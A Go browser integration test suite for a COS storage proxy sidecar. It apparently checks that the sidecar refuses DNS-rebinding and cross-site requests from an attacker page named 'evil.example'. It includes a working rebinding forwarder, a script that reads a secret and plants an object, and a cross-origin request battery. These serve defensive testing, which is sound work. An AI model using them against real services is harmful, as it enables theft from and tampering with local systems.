//go:build browser

package integration_test

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/tencentyun/cos-go-sdk-v5"

	"cosproxy/integration/cosemu"
)

// evil is the name of a site that an attacker owns. Browsers of these tests
// resolve it to this machine.
const evil = "evil.example"

// site is a web server whose page runs in a browser and reports what it saw.
type site struct {
	server  *httptest.Server
	reports chan string
}

// newSite serves what page makes of the address to report to, under every path.
func newSite(t *testing.T, page func(reportTo string) string) *site {
	t.Helper()
	s := &site{reports: make(chan string, 1)}
	s.server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/report" {
			text, _ := io.ReadAll(r.Body)
			s.reports <- string(text)
			return
		}
		w.Header().Set("Connection", "close") // so that a rebound name takes effect
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, page(s.at("localhost")+"/report"))
	}))
	t.Cleanup(s.server.Close)
	return s
}

// at is the origin of the site under a name.
func (s *site) at(name string) string { return "http://" + name + ":" + port(s.server.Listener.Addr()) }

func port(a net.Addr) string { return fmt.Sprint(a.(*net.TCPAddr).Port) }

// script is a page that runs the body of an async function and reports what that
// returns, or throws.
func script(reportTo, body string) string {
	return `<!doctype html><meta charset=utf-8><body><script>
(async () => {` + body + `})().catch(e => "thrown: " + e).then(text =>
	fetch("` + reportTo + `", {method: "POST", mode: "no-cors", body: text}))
</script>`
}

// visit opens url in a real browser and returns what the page reported.
func (s *site) visit(t *testing.T, url string) string {
	t.Helper()
	browser, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("these tests need chromium (Debian: apt-get install chromium): %v", err)
	}
	profile, err := os.MkdirTemp("", "cosproxy-browser-")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = os.RemoveAll(profile) }()
	cmd := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--user-data-dir="+profile, "--host-resolver-rules=MAP "+evil+" 127.0.0.1", url)
	cmd.Env = cleanEnv()
	inOwnGroup(cmd) // so that its helpers end with it
	var noise syncBuffer
	cmd.Stdout, cmd.Stderr, cmd.WaitDelay = &noise, &noise, time.Second
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		signalGroup(cmd, syscall.SIGKILL)
		_ = cmd.Wait() // killed
	}()
	select {
	case report := <-s.reports:
		return report
	case <-time.After(2 * time.Minute):
		t.Fatalf("the page at %s reports nothing; the browser says:\n%s", url, tail(noise.String(), 4000))
		return ""
	}
}

// put stores an object without the sidecar.
func put(t *testing.T, emu *cosemu.Server, key, contentType, content string) {
	t.Helper()
	_, err := sdkDirect(t, emu).Object.Put(t.Context(), key, strings.NewReader(content),
		&cos.ObjectPutOptions{ObjectPutHeaderOptions: &cos.ObjectPutHeaderOptions{ContentType: contentType}})
	if err != nil {
		t.Fatal(err)
	}
}

// arrived lists what has reached COS since the first n requests.
func arrived(emu *cosemu.Server, n int) []string {
	var all []string
	for _, r := range emu.Requests()[n:] {
		all = append(all, r.Method+" "+r.URI)
	}
	slices.Sort(all)
	return all
}

// TestBrowserRebinding: a page loads from its own server, then its name leads to
// the sidecar, so that to the browser the sidecar is the page's own site.
func TestBrowserRebinding(t *testing.T) {
	for _, tt := range []struct {
		name, setting string
		reached       bool
	}{
		{"refused", "COSPROXY_LOG_LEVEL=info", false},
		{"as it would be without the guard", "COSPROXY_ALLOWED_HOSTS=" + evil, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			emu := startEmulator(t, cosemu.Options{StrictSignature: true})
			put(t, emu, "secret", "text/plain", "the secret")
			before := len(emu.Requests())
			s := startSidecar(t, program(), append(sidecarEnv(emu), tt.setting)...)
			attacker := newSite(t, func(reportTo string) string {
				return script(reportTo, `
					const read = await fetch("/secret");
					const text = await read.text();
					const write = await fetch("/planted", {method: "PUT", body: "planted"});
					return read.type + " " + read.status + " " + write.status + " " + text;`)
			})
			// The name's first answer is the attacker's server, every other the sidecar.
			front := rebound(t, attacker.server.Listener.Addr().String(), strings.TrimPrefix(s.url, "http://"))
			report := attacker.visit(t, "http://"+evil+":"+front+"/")
			if !tt.reached {
				if !strings.HasPrefix(report, "basic 421 421 ") || !strings.Contains(report, "<Code>MisdirectedRequest</Code>") {
					t.Errorf("the page saw %s", report)
				}
				if got := arrived(emu, before); len(got) != 0 {
					t.Errorf("COS was asked %q", got)
				}
				return
			}
			if report != "basic 200 200 the secret" {
				t.Errorf("the attack is none, since it fails without the guard too: %s", report)
			}
		})
	}
}

// rebound is a port that leads to first until a page was loaded from there, and
// to second from then on.
func rebound(t *testing.T, first, second string) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	var loaded atomic.Bool
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				begin := make([]byte, 1) // browsers open connections ahead of need
				if _, err := c.Read(begin); err != nil {
					return
				}
				to := first
				if loaded.Load() {
					to = second
				}
				up, err := net.Dial("tcp", to)
				if err != nil {
					return
				}
				defer up.Close()
				go func() { _, _ = io.Copy(up, io.MultiReader(bytes.NewReader(begin), c)) }()
				if n, _ := io.Copy(c, up); n > 0 {
					loaded.Store(true)
				}
			}()
		}
	}()
	return port(l.Addr())
}

// attack asks for all that a page can ask of another site, and reports once each
// of it has come to an end. %s is the sidecar.
const attack = `
	const target = "%s", outcomes = [];
	const ends = async (name, promise) => outcomes.push(name + ": " + await promise.catch(() => "error"));
	const loads = element => new Promise((load, error) => {
		element.onload = () => load("load");
		element.onerror = () => error("error");
		document.body.append(element);
	});
	await ends("no-cors", fetch(target + "/no-cors", {mode: "no-cors"}).then(r => r.type));
	await ends("cors", fetch(target + "/cors").then(r => r.type));
	await ends("post", fetch(target + "/post?append&position=0", {method: "POST", mode: "no-cors", body: "posted"}).then(r => r.type));
	await ends("put", fetch(target + "/put", {method: "PUT", body: "put"}).then(r => r.type));
	await ends("img", loads(Object.assign(new Image(), {src: target + "/img.svg"})));
	await ends("script", loads(Object.assign(document.createElement("script"), {src: target + "/script.js"})));
	document.body.insertAdjacentHTML("beforeend", '<form method=post enctype=text/plain target=frame action="' + target +
		'/form?append&position=0"><input name=a value=b></form>');
	const frame = Object.assign(document.createElement("iframe"), {name: "frame"});
	document.body.append(frame);
	const sent = new Promise(done => frame.onload = () => done("load"));
	document.forms[0].submit();
	await ends("form", sent);
	return outcomes.join(", ");`

// TestBrowserCrossSite: no page of another site gets anything of COS, not even
// one from another port of the same machine, unless its origin is listed.
func TestBrowserCrossSite(t *testing.T) {
	for _, tt := range []struct {
		name, page, sidecar string
		listed              bool
	}{
		{"cross-site", evil, "127.0.0.1", false},
		{"same-site", "localhost", "localhost", false},
		{"cross-site, listed", evil, "127.0.0.1", true},
		{"same-site, listed", "localhost", "localhost", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			emu := startEmulator(t, cosemu.Options{StrictSignature: true})
			put(t, emu, "img.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>`)
			put(t, emu, "script.js", "text/javascript", "0")
			put(t, emu, "no-cors", "text/plain", "read")
			put(t, emu, "cors", "text/plain", "read")
			before := len(emu.Requests())
			var target string
			other := newSite(t, func(reportTo string) string { return script(reportTo, fmt.Sprintf(attack, target)) })
			env := sidecarEnv(emu)
			if tt.listed {
				env = append(env, "COSPROXY_ALLOWED_ORIGINS="+other.at(tt.page))
			} else {
				env = append(env, "COSPROXY_ALLOWED_ORIGINS=https://app.example,"+other.at("other.example"))
			}
			s := startSidecar(t, program(), env...)
			target = strings.Replace(s.url, "127.0.0.1", tt.sidecar, 1)
			report := other.visit(t, other.at(tt.page)+"/")

			// The bucket has no CORS rules, so a page may not read what it is let ask.
			want, reaches := "no-cors: opaque, cors: error, post: opaque, put: error, img: error, script: error, form: load", []string(nil)
			if tt.listed {
				want = "no-cors: opaque, cors: error, post: opaque, put: error, img: load, script: load, form: load"
				reaches = []string{"GET /cors", "GET /img.svg", "GET /no-cors", "GET /script.js",
					"OPTIONS /put", "POST /form?append&position=0", "POST /post?append&position=0"}
			}
			if report != want {
				t.Errorf("the page saw\n%s\nwant\n%s", report, want)
			}
			if got := arrived(emu, before); !slices.Equal(got, reaches) {
				t.Errorf("COS was asked\n%q\nwant\n%q", got, reaches)
			}
		})
	}
}

// TestBrowserOwnPage: a page that stands in the bucket is the sidecar's own, and it
// may read and write there.
func TestBrowserOwnPage(t *testing.T) {
	emu := startEmulator(t, cosemu.Options{StrictSignature: true})
	put(t, emu, "text", "text/plain", "read")
	visitor := newSite(t, func(reportTo string) string { return reportTo })
	put(t, emu, "page.html", "text/html", script(visitor.at("localhost")+"/report", `
		const read = await fetch("/text");
		const write = await fetch("/written", {method: "PUT", body: "written"});
		return write.status + " " + await read.text();`))
	s := startSidecar(t, program(), sidecarEnv(emu)...)
	if report := visitor.visit(t, s.url+"/page.html"); report != "200 read" {
		t.Errorf("the page saw %s", report)
	}
	if got := readDirect(t, emu, "written"); string(got) != "written" {
		t.Errorf("COS holds %q", got)
	}
}
